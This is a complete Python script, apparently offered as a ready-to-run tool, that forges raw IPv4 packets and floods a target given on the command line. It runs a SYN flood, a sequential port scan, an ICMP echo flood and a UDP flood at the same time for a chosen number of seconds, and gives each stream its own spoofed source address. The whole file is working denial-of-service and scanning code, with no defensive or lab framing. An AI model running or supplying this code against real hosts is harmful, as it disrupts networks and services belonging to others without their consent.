"""Sends a SYN flood, a port scan, an ICMP flood and a UDP flood at once, each from a forged source of its own.

usage: attack.py TARGET SECONDS. A hundred times a second: 10 SYNs to one port, 3 SYNs to ports in turn, 10 echo requests,
60 datagrams.
"""

import socket
import struct
import sys
import time


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xFFFF) + (total >> 16)
    return ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF


def ip(source, target, protocol, payload):
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), 0, 0, 64, protocol, 0,
                       socket.inet_aton(source), socket.inet_aton(target))  # fmt: skip
    return head + payload


def syn(source, target, source_port, port, sequence):
    tcp = struct.pack("!HHIIHHHH", source_port, port, sequence & 0xFFFFFFFF, 0, 0x5002, 1024, 0, 0)
    pseudo = socket.inet_aton(source) + socket.inet_aton(target) + struct.pack("!HH", 6, len(tcp))
    return ip(source, target, 6, tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:])


def main(target, seconds):
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    echo = struct.pack("!BBHHH", 8, 0, 0, 7, 1) + bytes(32)
    echo = ip("10.0.0.79", target, 1, echo[:2] + struct.pack("!H", checksum(echo)) + echo[4:])
    datagram = ip("10.0.0.80", target, 17, struct.pack("!HHHH", 4000, 9, 16, 0) + bytes(8))
    begin = time.monotonic()
    done = 0
    while (now := time.monotonic()) - begin < seconds:
        if (now - begin) * 100 < done:
            time.sleep(0.002)
            continue
        packets = [syn("10.0.0.77", target, 1024 + (done * 10 + i) % 60000, 8080, done) for i in range(10)]
        packets += [syn("10.0.0.78", target, 40000, 1 + (done * 3 + i) % 3000, done) for i in range(3)]
        packets += [echo] * 10 + [datagram] * 60
        for packet in packets:
            raw.sendto(packet, (target, 0))
        done += 1


main(sys.argv[1], float(sys.argv[2]))
